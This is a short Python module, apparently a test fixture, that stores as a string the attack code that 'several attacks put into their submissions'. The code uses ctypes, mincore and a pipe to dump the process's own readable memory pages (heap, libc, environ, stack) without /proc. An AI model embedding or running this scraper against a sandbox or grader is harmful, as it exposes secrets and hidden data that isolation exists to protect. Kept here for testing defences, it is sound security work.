"""Code that several attacks put into their submissions."""

# Its own memory without /proc: pages that the kernel would write to a pipe are mapped, others give EFAULT.
MEMORY = r'''
import ctypes
import os
import time


def _library():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    libc.sbrk.restype = ctypes.c_void_p
    return libc


_LIBC, _PAGE = _library(), 4096


def is_mapped(address):
    return _LIBC.mincore(address, _PAGE, ctypes.create_string_buffer(1)) == 0


def pages(seconds):
    """Contents of readable memory around what is known to be there: objects, heap, libraries, stack."""
    reader, writer = os.pipe()
    os.set_blocking(writer, False)
    known = [id(object()), id(pages), id(list(range(10**5))), ctypes.addressof(ctypes.create_string_buffer(10**6))]
    known += [ctypes.cast(_LIBC[name], ctypes.c_void_p).value for name in ("malloc", "printf", "environ")]
    known += [_LIBC.sbrk(0) - _PAGE, ctypes.addressof(ctypes.c_int()), id(type), id(os)]
    known += [ctypes.c_void_p.in_dll(_LIBC, "environ").value or id(None)]
    known += [ctypes.addressof(ctypes.c_void_p.in_dll(ctypes.pythonapi, "PyExc_ValueError"))]
    seen, end = set(), time.monotonic() + seconds
    for start in known:
        for step in (_PAGE, -_PAGE):
            address, gaps = start // _PAGE * _PAGE, 0
            while gaps < 600 and time.monotonic() < end:
                if address in seen:
                    address += step
                    if len(seen) > 200_000:
                        return
                    continue
                seen.add(address)
                if is_mapped(address) and _LIBC.write(writer, address, _PAGE) == _PAGE:
                    gaps = 0
                    yield address, os.read(reader, _PAGE)
                else:
                    gaps += 1
                address += step
'''
